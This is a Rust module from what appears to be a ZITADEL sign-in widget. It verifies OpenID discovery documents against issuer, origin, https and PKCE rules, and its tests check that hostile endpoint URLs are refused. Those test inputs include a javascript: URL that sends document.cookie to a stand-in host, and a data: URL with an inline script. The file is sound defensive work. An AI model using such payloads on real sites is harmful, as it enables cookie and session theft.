//! `/.well-known/openid-configuration`, fetched once per issuer and page, and trusted
//! only once checked: it must name the configured issuer exactly (OIDC Discovery
//! §4.3), and every endpoint this widget uses must be https (http only on loopback)
//! on the issuer's origin, so that no document can send a person, a code or a token
//! anywhere else, nor hand `location` a `javascript:` URL.

use std::cell::RefCell;

use serde::{Deserialize, Serialize};

use super::error::{DiscoveryError, SignInError};
use crate::http::Request;
use crate::options::Config;
use crate::session::Slot;
use crate::url::{is_secure, origin};

/// The parts of the discovery document this widget uses.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default)]
pub struct Discovery {
    pub issuer: String,
    pub authorization_endpoint: String,
    pub token_endpoint: String,
    pub revocation_endpoint: Option<String>,
    pub end_session_endpoint: Option<String>,
    pub code_challenge_methods_supported: Vec<String>,
    /// The instance's allowed languages.
    pub ui_locales_supported: Vec<String>,
}

impl Discovery {
    /// The document, if it may be trusted for `issuer`.
    pub fn verified(self, issuer: &str) -> Result<Self, DiscoveryError> {
        if self.issuer != issuer {
            return Err(DiscoveryError::Issuer { found: self.issuer });
        }
        let home = origin(issuer);
        let endpoints = [
            ("authorization_endpoint", Some(&self.authorization_endpoint)),
            ("token_endpoint", Some(&self.token_endpoint)),
            ("revocation_endpoint", self.revocation_endpoint.as_ref()),
            ("end_session_endpoint", self.end_session_endpoint.as_ref()),
        ];
        for (name, url) in endpoints {
            let Some(url) = url else { continue };
            if !is_secure(url) || origin(url) != home {
                let url = url.clone();
                return Err(DiscoveryError::Endpoint { name, url });
            }
        }
        let methods = &self.code_challenge_methods_supported;
        if !methods.is_empty() && !methods.iter().any(|m| m == "S256") {
            return Err(DiscoveryError::NoS256);
        }
        Ok(self)
    }
}

/// The checked document, kept for the tab: a reload, or the return from ZITADEL's
/// login, goes straight to the token or the API without fetching it again.
const KEPT: Slot<Discovery> = Slot::new("discovery");

/// The page's discovery documents by issuer: fetched, or being fetched with the
/// callers waiting for that one request.
enum Entry {
    Ready(Discovery),
    Fetching(Vec<js_sys::Function>),
}

thread_local! {
    static CACHE: RefCell<Vec<(String, Entry)>> = const { RefCell::new(Vec::new()) };
}

/// Where a caller stands: the document, a promise to wait on, or its turn to fetch.
enum Turn {
    Ready(Discovery),
    Wait(js_sys::Promise),
    Fetch,
}

fn take_turn(issuer: &str) -> Turn {
    CACHE.with(|cache| {
        let mut cache = cache.borrow_mut();
        match cache.iter_mut().find(|(i, _)| i == issuer) {
            Some((_, Entry::Ready(discovery))) => Turn::Ready(discovery.clone()),
            Some((_, Entry::Fetching(waiters))) => {
                let mut resolve = None;
                let promise = js_sys::Promise::new(&mut |r, _| resolve = Some(r));
                waiters.extend(resolve);
                Turn::Wait(promise)
            }
            None => {
                cache.push((issuer.to_owned(), Entry::Fetching(Vec::new())));
                Turn::Fetch
            }
        }
    })
}

/// Records the fetch's outcome (a failure leaves nothing behind, so the next caller
/// tries again) and wakes whoever waited for it.
fn settle(issuer: &str, result: &Result<Discovery, SignInError>) {
    let waiters = CACHE.with(|cache| {
        let mut cache = cache.borrow_mut();
        let at = cache.iter().position(|(i, _)| i == issuer)?;
        let before = match result {
            Ok(discovery) => std::mem::replace(&mut cache[at].1, Entry::Ready(discovery.clone())),
            Err(_) => cache.remove(at).1,
        };
        match before {
            Entry::Fetching(waiters) => Some(waiters),
            Entry::Ready(_) => None,
        }
    });
    for wake in waiters.unwrap_or_default() {
        let _ = wake.call0(&wasm_bindgen::JsValue::NULL);
    }
}

/// The checked discovery document of the configured issuer: from the page's cache,
/// else the tab's, else one request shared by every caller that asks meanwhile.
pub async fn discover(config: &Config) -> Result<Discovery, SignInError> {
    let issuer = config.issuer.as_str();
    loop {
        match take_turn(issuer) {
            Turn::Ready(discovery) => return Ok(discovery),
            Turn::Wait(promise) => {
                let _ = wasm_bindgen_futures::JsFuture::from(promise).await;
            }
            Turn::Fetch => break,
        }
    }
    let result = fetch(config).await;
    settle(issuer, &result);
    result
}

async fn fetch(config: &Config) -> Result<Discovery, SignInError> {
    let issuer = &config.issuer;
    let store = config.store();
    if let Some(kept) = store.read(&KEPT).and_then(|d| d.verified(issuer).ok()) {
        return Ok(kept);
    }
    let url = format!("{issuer}/.well-known/openid-configuration");
    let discovery: Discovery = Request::get(&url)
        .send_json(config.timeout_ms)
        .await
        .map_err(SignInError::Transport)?;
    let discovery = discovery.verified(issuer).map_err(SignInError::Discovery)?;
    store.write(&KEPT, &discovery);
    Ok(discovery)
}

#[cfg(test)]
mod tests {
    use super::*;

    const ISSUER: &str = "https://acme.zitadel.cloud";

    fn zitadel() -> Discovery {
        Discovery {
            issuer: ISSUER.into(),
            authorization_endpoint: format!("{ISSUER}/oauth/v2/authorize"),
            token_endpoint: format!("{ISSUER}/oauth/v2/token"),
            revocation_endpoint: Some(format!("{ISSUER}/oauth/v2/revoke")),
            end_session_endpoint: Some(format!("{ISSUER}/oidc/v1/end_session")),
            code_challenge_methods_supported: vec!["S256".into()],
            ui_locales_supported: vec![],
        }
    }

    #[test]
    fn zitadels_own_document_is_trusted() {
        assert_eq!(zitadel().verified(ISSUER), Ok(zitadel()));
        let loopback = Discovery {
            issuer: "http://127.0.0.1:8080".into(),
            authorization_endpoint: "http://127.0.0.1:8080/oauth/v2/authorize".into(),
            token_endpoint: "http://127.0.0.1:8080/oauth/v2/token".into(),
            revocation_endpoint: None,
            end_session_endpoint: None,
            ..zitadel()
        };
        assert!(loopback.verified("http://127.0.0.1:8080").is_ok());
    }

    /// M2: the issuer must match exactly (OIDC Discovery §4.3).
    #[test]
    fn m2_another_issuer_is_refused() {
        for found in ["https://evil.example", "https://acme.zitadel.cloud/", ""] {
            let document = Discovery {
                issuer: found.into(),
                ..zitadel()
            };
            assert_eq!(
                document.verified(ISSUER),
                Err(DiscoveryError::Issuer {
                    found: found.into()
                })
            );
        }
    }

    /// M2: no endpoint may leave the issuer's origin, use plain http, or be script.
    #[test]
    fn m2_endpoints_elsewhere_or_not_https_are_refused() {
        let hostile = [
            "javascript:fetch('//x.example/?'+document.cookie)//",
            "https://evil.example/oauth/v2/authorize",
            "http://acme.zitadel.cloud/oauth/v2/authorize",
            "https://acme.zitadel.cloud.evil.example/authorize",
            "data:text/html,<script>alert(1)</script>",
            "",
        ];
        for url in hostile {
            let mut d = zitadel();
            d.authorization_endpoint = url.into();
            assert!(
                matches!(
                    d.verified(ISSUER),
                    Err(DiscoveryError::Endpoint {
                        name: "authorization_endpoint",
                        ..
                    })
                ),
                "{url}"
            );
            let mut d = zitadel();
            d.end_session_endpoint = Some(url.into());
            assert!(d.verified(ISSUER).is_err(), "end_session {url}");
            let mut d = zitadel();
            d.token_endpoint = url.into();
            assert!(d.verified(ISSUER).is_err(), "token {url}");
        }
    }

    #[test]
    fn m2_plain_pkce_only_is_refused() {
        let mut d = zitadel();
        d.code_challenge_methods_supported = vec!["plain".into()];
        assert_eq!(d.clone().verified(ISSUER), Err(DiscoveryError::NoS256));
        d.code_challenge_methods_supported = vec![];
        assert!(d.verified(ISSUER).is_ok(), "silence is no refusal");
    }
}
